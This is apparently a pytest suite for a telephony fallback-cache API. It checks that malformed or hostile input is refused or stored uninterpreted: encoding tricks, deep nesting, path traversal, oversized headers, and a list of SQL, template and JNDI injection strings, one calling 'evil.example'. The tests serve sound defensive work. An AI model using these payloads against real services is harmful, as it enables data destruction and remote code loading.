"""Hostile input: a 4xx problem+json and stored data untouched, or, where the hostile text is
a valid value, stored and returned verbatim (which proves it was never interpreted)."""

import json
from urllib.parse import quote

import pytest

from tests.conftest import CALL, DOMAIN, PLATFORM, assert_problem, bearer, calling, make_token

BASE = f"/cache/{DOMAIN}/ivrfallback"
ENTRY = f"{BASE}/1"
SIPREC = f"/cache/{DOMAIN}/siprecfallback/1"
PLATFORM_ENTRY = f"/platform/{DOMAIN}/siprecfallback/1"
HANGUP = {"mode": "always", "command": {"action": {"type": "hangup"}}}


@pytest.fixture
def seeded(client, auth, platform_auth, stored):
    """One entry per cache, and a check at the end that nothing changed."""
    assert client.post(ENTRY, json={"mode": "onError", "command": {"action": CALL}},
                       headers=auth).status_code == 200
    assert client.post(PLATFORM_ENTRY, json={}, headers=platform_auth).status_code == 200
    before = stored()
    yield
    assert stored() == before


def post_raw(client, headers, content: bytes, path=ENTRY, content_type="application/json"):
    return client.post(path, content=content, headers={**headers, "Content-Type": content_type})


def read_back(client, auth, path=ENTRY):
    response = client.get(path, headers=auth)
    assert response.status_code == 200, response.text
    return response.json()["data"]


# --- bodies that are not UTF-8 --------------------------------------------------------------

HANGUP_TEXT = '{"mode":"always","command":{"action":{"type":"hangup"}}}'


def call_to(dest_addr: bytes) -> bytes:
    return b'{"mode":"always","command":{"action":{"type":"call","destAddr":"' + dest_addr + b'"}}}'


NOT_UTF8 = {
    "latin-1": call_to("é".encode("latin-1")),
    "utf-16": HANGUP_TEXT.encode("utf-16"),
    "utf-32": HANGUP_TEXT.encode("utf-32"),
    "utf-8 with a BOM": HANGUP_TEXT.encode("utf-8-sig"),
    "overlong slash": call_to(b"\xc0\xaf"),
    "encoded surrogate": call_to(b"\xed\xa0\x80"),
    "truncated sequence": call_to(b"sip:\xe2\x82"),
    "lone continuation byte": call_to(b"\x80sip:a@b"),
}


@pytest.mark.parametrize("content", NOT_UTF8.values(), ids=NOT_UTF8)
def test_public_body_that_is_not_utf8_is_400(client, auth, seeded, content):
    assert_problem(post_raw(client, auth, content), 400)


@pytest.mark.parametrize("content", [b'{"expiration":"DAY\xe9"}', '{}'.encode("utf-16")],
                         ids=["latin-1", "utf-16"])
def test_platform_body_that_is_not_utf8_is_400(client, platform_auth, seeded, content):
    assert_problem(post_raw(client, platform_auth, content, PLATFORM_ENTRY), 400)


# --- deep nesting ---------------------------------------------------------------------------


def tts_nested(levels: int) -> bytes:
    """A hangup whose TTS parameters nest `levels` arrays; the body is 5 + levels deep."""
    return (b'{"mode":"always","command":{"action":{"type":"hangup"},'
            b'"phrases":[{"googleTTSParameters":{"a":' + b"[" * levels + b"1" + b"]" * levels
            + b"}}]}}")


DEEP = {
    "arrays 10000 deep": b"[" * 10_000 + b"]" * 10_000,
    "objects 10000 deep": b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
    "tts 10000 deep": tts_nested(10_000),
    "tts 900 deep": tts_nested(900),
    "tts 300 deep": tts_nested(300),
    "tts one level too deep": tts_nested(28),
}


@pytest.mark.parametrize("content", DEEP.values(), ids=DEEP)
def test_deeply_nested_body_is_400(client, auth, seeded, content):
    assert_problem(post_raw(client, auth, content), 400, "nested more than 32 levels")


def test_deeply_nested_platform_body_is_400(client, platform_auth, seeded):
    content = b'{"expiration":' + b"[" * 10_000 + b"]" * 10_000 + b"}"
    assert_problem(post_raw(client, platform_auth, content, PLATFORM_ENTRY), 400, "nested")


def test_nesting_up_to_the_limit_is_stored(client, auth):
    # The limit refuses only what is deeper: 32 levels are a valid value, kept as sent.
    assert post_raw(client, auth, tts_nested(27)).status_code == 200
    phrase = read_back(client, auth)["command"]["phrases"][0]
    assert json.dumps(phrase["googleTTSParameters"]["a"]) == "[" * 27 + "1" + "]" * 27


# --- repeated keys --------------------------------------------------------------------------

REPEATED_KEYS = {
    "mode": b'{"mode":"bogus","mode":"always","command":{"action":{"type":"hangup"}}}',
    # A parser that keeps the first "type" sees a hangup, one that keeps the last a call.
    "action type": b'{"mode":"always","command":{"action":{"type":"hangup","type":"call",'
                   b'"destAddr":"sip:x@evil.example"}}}',
    "tts parameter": b'{"mode":"always","command":{"action":{"type":"hangup"},'
                     b'"phrases":[{"awsTTSParameters":{"Text":"a","Text":"b"}}]}}',
}


@pytest.mark.parametrize("content", REPEATED_KEYS.values(), ids=REPEATED_KEYS)
def test_repeated_keys_are_400(client, auth, seeded, content):
    assert_problem(post_raw(client, auth, content), 400, "repeats the key")


def test_repeated_keys_in_a_platform_body_are_400(client, platform_auth, seeded):
    content = b'{"expiration":"DAY","expiration":"WEEK"}'
    assert_problem(post_raw(client, platform_auth, content, PLATFORM_ENTRY), 400,
                   "repeats the key 'expiration'")


# --- huge numbers, NaN and Infinity ---------------------------------------------------------

HUGE = {
    "1e400": b"1e400",
    "-1e400": b"-1e400",
    "10**400": b"1" + b"0" * 400,
    "-10**400": b"-1" + b"0" * 400,
    "NaN": b"NaN",
    "Infinity": b"Infinity",
    "-Infinity": b"-Infinity",
}


@pytest.mark.parametrize("literal", HUGE.values(), ids=HUGE)
def test_huge_or_non_finite_expiration_is_400(client, auth, seeded, literal):
    content = HANGUP_TEXT.encode().replace(b'"always",', b'"always","expiration":' + literal + b",")
    assert_problem(post_raw(client, auth, content), 400, "expiration")


@pytest.mark.parametrize("literal", HUGE.values(), ids=HUGE)
def test_huge_or_non_finite_platform_expiration_is_400(client, platform_auth, seeded, literal):
    content = b'{"expiration":' + literal + b"}"
    assert_problem(post_raw(client, platform_auth, content, PLATFORM_ENTRY), 400, "expiration")


@pytest.mark.parametrize("literal", HUGE.values(), ids=HUGE)
def test_huge_or_non_finite_ring_time_is_400(client, auth, seeded, literal):
    content = (b'{"mode":"always","command":{"action":{"type":"call","destAddr":"sip:a@b",'
               b'"maxRingTime":' + literal + b"}}}")
    assert_problem(post_raw(client, auth, content), 400, "maxRingTime")


@pytest.mark.parametrize("literal", [b"NaN", b"-Infinity", b"1e400"])
def test_non_finite_number_in_any_field_is_400(client, auth, seeded, literal):
    for content in (b'{"mode":' + literal + b',"command":{"action":{"type":"hangup"}}}',
                    b'{"mode":"always","command":{"action":{"type":' + literal + b"}}}",
                    tts_nested(0).replace(b'"a":1', b'"a":[{"b":' + literal + b"}]")):
        assert_problem(post_raw(client, auth, content), 400)


# Python's json refuses integers over 4300 digits (a ValueError, so far a 500).
DIGITS_5000 = b"1" + b"0" * 5000


def test_integer_over_4300_digits_is_400(client, auth, seeded):
    for content in (HANGUP_TEXT.encode().replace(b"{", b'{"expiration":' + DIGITS_5000 + b",", 1),
                    tts_nested(0).replace(b'"a":1', b'"a":' + DIGITS_5000)):
        assert_problem(post_raw(client, auth, content), 400, "too many digits")


def test_integer_over_4300_digits_in_a_platform_body_is_400(client, platform_auth, seeded):
    content = b'{"expiration":' + DIGITS_5000 + b"}"
    assert_problem(post_raw(client, platform_auth, content, PLATFORM_ENTRY), 400, "too many digits")


def test_huge_integer_in_tts_parameters_is_stored_exactly(client, auth):
    # JSON integers have no size limit: 10**400 is a valid value, kept to the last digit.
    content = tts_nested(0).replace(b'"a":1', b'"a":1' + b"0" * 400)
    assert post_raw(client, auth, content).status_code == 200
    assert read_back(client, auth)["command"]["phrases"][0]["googleTTSParameters"]["a"] == 10**400


# --- NUL, control characters and direction marks --------------------------------------------

BAD_TEXT_BODIES = {
    "NUL in destAddr": calling(destAddr="sip:a\x00@b"),
    "ESC in sipFrom": calling(sipFrom="\x1b[31m"),
    "DEL in sipPAI": calling(sipPAI="a\x7f"),
    "CR LF in a header value": calling(pHeaders={"P-A": "1\r\nP-B: 2"}),
    "NUL in a header name": calling(xHeaders={"X-A\x00": "1"}),
    "direction mark in a header name": calling(xHeaders={"X-\u202eA": "1"}),
    "direction mark in copyHeaders": calling(copyHeaders=["\u202eUser-Agent"]),
    "direction mark in mode": {**HANGUP, "mode": "\u202ealways"},
    "NUL in action type": {**HANGUP, "command": {"action": {"type": "hangup\x00"}}},
    "NUL in a key": {**HANGUP, "mode\x00": "always"},
    "zero-width space in mode": {**HANGUP, "mode": "always\u200b"},
    "NUL and escape in a file name": {**HANGUP, "command": {
        "action": {"type": "hangup"}, "phrases": [{"fileName": "a\x00b\x1b.wav"}]}},
    "trailing newline in a SIP value": calling(sipFrom="<sip:a@b>\n"),
}


@pytest.mark.parametrize("body", BAD_TEXT_BODIES.values(), ids=BAD_TEXT_BODIES)
def test_control_characters_where_the_spec_forbids_them_are_400(client, auth, seeded, body):
    assert_problem(client.post(ENTRY, json=body, headers=auth), 400)


def test_control_characters_in_free_text_are_kept_verbatim(client, auth):
    # Valid values: the spec allows any text in TTS parameters, and direction marks
    # (not control characters) in SIP values and file names. Stored exactly as sent.
    command = {
        "action": {**CALL, "destAddr": "sip:\u202emoc.elpmaxe@evil", "sipTo": "\u200f<sip:b@c>"},
        "phrases": [{"fileName": "a\u202eb.wav"},
                    {"googleTTSParameters": {"text": "\x00\r\n\t\u202e\ufeff\x7f", "\x00": "k"}}],
    }
    assert client.post(ENTRY, json={"mode": "always", "command": command},
                       headers=auth).status_code == 200
    assert read_back(client, auth)["command"] == command


BAD_PATHS = [
    f"/cache/{DOMAIN}/ivrfallback/%E2%80%AE1",  # right-to-left override
    f"/cache/{DOMAIN}/ivrfallback/%E2%80%8F1",  # right-to-left mark
    f"/cache/{DOMAIN}/ivrfallback/%E2%80%8B1",  # zero-width space
    f"/cache/{DOMAIN}/ivrfallback/%EF%BB%BF1",  # byte order mark
    f"/cache/{DOMAIN}/ivrfallback/%FF",  # not UTF-8
    f"/cache/{DOMAIN}/ivrfallback/%ED%A0%80",  # an encoded surrogate
    f"/cache/{DOMAIN}/ivrfallback/1%1B",  # escape
    f"/cache/{DOMAIN}/ivrfallback/1%09",  # tab
    f"/cache/{DOMAIN}%E2%80%8F/ivrfallback",
    f"/cache/{DOMAIN}%00/ivrfallback",
    f"/cache/{DOMAIN}/siprecfallback/%E2%80%AE1",
    f"/cache/{DOMAIN}/siprecfallback/1%00",
]


@pytest.mark.parametrize("path", BAD_PATHS)
def test_bad_characters_in_paths_are_400(client, auth, seeded, path):
    methods = ("get", "options") if path.endswith("/ivrfallback") else ("get", "delete", "options")
    for method in methods:
        assert_problem(client.request(method, path, headers=auth), 400)


@pytest.mark.parametrize("path", ["/platform/example.com/siprecfallback/%E2%80%AE1",
                                  "/platform/example.com/siprecfallback/1%00",
                                  "/platform/example.com%E2%80%8F/siprecfallback/1"])
def test_bad_characters_in_platform_paths_are_400(client, platform_auth, seeded, path):
    assert_problem(client.post(path, json={}, headers=platform_auth), 400)


# --- percent-encoded slashes and traversal ---------------------------------------------------

# Not double-encoded ones (%252F): Starlette's test client decodes paths twice, where
# uvicorn decodes once (a literal '%2F', then refused by the number pattern).
ENCODED_SLASHES = [
    f"{BASE}/a%2Fb",
    f"{BASE}/a%2fb",
    f"{BASE}/..%2F..%2Fother.example%2Fivrfallback",
    f"/cache/{DOMAIN}%2F..%2Fother.example/ivrfallback",
    f"/cache/{DOMAIN}/ivrfallback%2F1",
    f"{BASE}/a%5Cb",
]


@pytest.mark.parametrize("path", ENCODED_SLASHES)
def test_percent_encoded_slashes_are_400(client, auth, seeded, path):
    for method, body in (("get", None), ("post", HANGUP), ("delete", None)):
        assert_problem(client.request(method, path, json=body, headers=auth), 400)


def test_an_encoded_slash_is_not_a_separator(client, auth, seeded):
    # Decoded, `ivrfallback%2F1` would name the seeded entry `1`.
    assert_problem(client.get(f"{BASE}%2F1", headers=auth), 400, "encoded slash")
    assert_problem(client.delete(f"{BASE}%2F1", headers=auth), 400, "encoded slash")


def test_an_encoded_traversal_does_not_reach_another_domain(client, auth):
    other = bearer(make_token(domains=["other.example"]))
    assert client.post("/cache/other.example/ivrfallback/1", json=HANGUP,
                       headers=other).status_code == 200
    for path in (f"{BASE}/..%2F..%2Fother.example%2Fivrfallback%2F1",
                 f"/cache/{DOMAIN}%2F..%2Fother.example/ivrfallback/1"):
        assert_problem(client.get(path, headers=auth))


# --- overlong paths and headers -------------------------------------------------------------

LONG = "1" * 10_240


@pytest.mark.parametrize("path, parameter", [
    (f"{BASE}/{LONG}", "number"),
    (f"/cache/{DOMAIN}/siprecfallback/{LONG}", "number"),
    (f"/cache/{'a' * 10_240}.com/ivrfallback", "domain"),
    (f"/cache/{'a.' * 5_120}com/ivrfallback/1", "domain"),
])
def test_a_10_kib_path_is_400(client, auth, seeded, path, parameter):
    assert_problem(client.get(path, headers=auth), 400, parameter)


def test_a_10_kib_platform_path_is_400(client, platform_auth, seeded):
    response = client.post(f"/platform/{DOMAIN}/siprecfallback/{LONG}", json={},
                           headers=platform_auth)
    assert_problem(response, 400, "number")


@pytest.mark.parametrize("authorization", [
    "Bearer " + "a" * 10_240,
    "Bearer eyJhbGciOiJIUzI1NiJ9." + "e" * 10_240 + ".s",
    "Bearer " + make_token(key="another-secret-that-is-long-enough-0123456789", pad="p" * 10_240),
    "Basic " + "a" * 10_240,
])
def test_a_10_kib_authorization_header_is_401(client, seeded, authorization):
    assert_problem(client.get(BASE, headers={"Authorization": authorization}), 401)


def test_a_10_kib_token_that_is_well_signed_is_valid(client, seeded):
    # A valid value: a big claim is no attack, the signature is what counts.
    token = make_token(pad="p" * 10_240)
    assert client.get(BASE, headers=bearer(token)).status_code == 200


def test_a_10_kib_content_type_is_415(client, auth, seeded):
    response = post_raw(client, auth, json.dumps(HANGUP).encode(), content_type="x" * 10_240)
    assert_problem(response, 415)


def test_a_10_kib_request_id_is_not_echoed(client, auth):
    # Any header may be long; this one would be echoed, so it is replaced instead.
    response = client.get(BASE, headers={**auth, "X-Request-ID": "a" * 10_240})
    assert response.status_code == 200
    assert len(response.headers["x-request-id"]) <= 128


# --- SQL-like and template-like text --------------------------------------------------------

INJECTIONS = ["' OR 1=1 --", "1; DROP TABLE ivr_fallback; --", "\" OR \"\"=\"", "{{7*7}}",
              "${7*7}", "${jndi:ldap://evil.example/a}", "<%= 7*7 %>", "#{7*7}", "*/*", "%s%n"]


@pytest.mark.parametrize("text", INJECTIONS)
def test_injections_in_a_number_are_400(client, auth, seeded, text):
    number = quote(text, safe="")
    for path in (f"{BASE}/{number}", f"/cache/{DOMAIN}/siprecfallback/{number}"):
        assert_problem(client.get(path, headers=auth), 400)


@pytest.mark.parametrize("text", INJECTIONS)
def test_injections_in_a_domain_are_400(client, seeded, text):
    everything = bearer(make_token(domains=["*"]))
    response = client.get(f"/cache/{quote(text, safe='')}.com/ivrfallback", headers=everything)
    assert_problem(response, 400)


@pytest.mark.parametrize("text", INJECTIONS)
def test_injections_in_enums_and_expiration_are_400(client, auth, seeded, text):
    for body, field in (({**HANGUP, "mode": text}, "mode"),
                        ({**HANGUP, "command": {"action": {"type": text}}}, "type"),
                        ({**HANGUP, "expiration": text}, "expiration")):
        assert_problem(client.post(ENTRY, json=body, headers=auth), 400, field)


@pytest.mark.parametrize("text", INJECTIONS)
def test_injections_in_text_values_are_stored_verbatim(client, auth, text):
    # Valid values: SIP values and TTS text may hold any printable text. Reading back
    # the very same string (not 49, not a lookup result) proves nothing interpreted it.
    command = {
        "action": {**CALL, "destAddr": text, "sipFrom": text, "xHeaders": {"X-Note": text}},
        "phrases": [{"awsTTSParameters": {"Text": text, text: text}}, {"fileName": text}],
    }
    assert client.post(ENTRY, json={"mode": "always", "command": command},
                       headers=auth).status_code == 200
    assert read_back(client, auth)["command"] == command
    assert client.get(BASE, headers=auth).json() == {"data": ["1"], "success": True}


@pytest.mark.parametrize("pattern", ["_", "%", "1_", "1%", "*", ".*", "1*"])
def test_numbers_are_never_patterns(client, auth, pattern):
    # '_' and '*' are number characters; they must match only themselves (no LIKE, no glob).
    assert client.post(f"{BASE}/12", json=HANGUP, headers=auth).status_code == 200
    path = f"{BASE}/{quote(pattern, safe='')}"
    assert client.get(path, headers=auth).status_code in (400, 404)
    assert client.delete(path, headers=auth).status_code in (400, 404)
    assert client.get(f"{BASE}/12", headers=auth).status_code == 200


def test_injections_in_query_strings_are_400(client, auth, seeded):
    response = client.get(f"{BASE}?number={quote(INJECTIONS[0])}", headers=auth)
    assert_problem(response, 400, "number")


def test_injections_in_domain_claims_grant_nothing(client, seeded):
    for claim in INJECTIONS:
        response = client.get(BASE, headers=bearer(make_token(domains=[claim])))
        assert_problem(response, 403)


def test_platform_rejects_injections_as_expiration(client, seeded):
    token = bearer(make_token(scopes=(PLATFORM,)))
    for text in INJECTIONS:
        response = client.post(PLATFORM_ENTRY, json={"expiration": text}, headers=token)
        assert_problem(response, 400, "expiration")
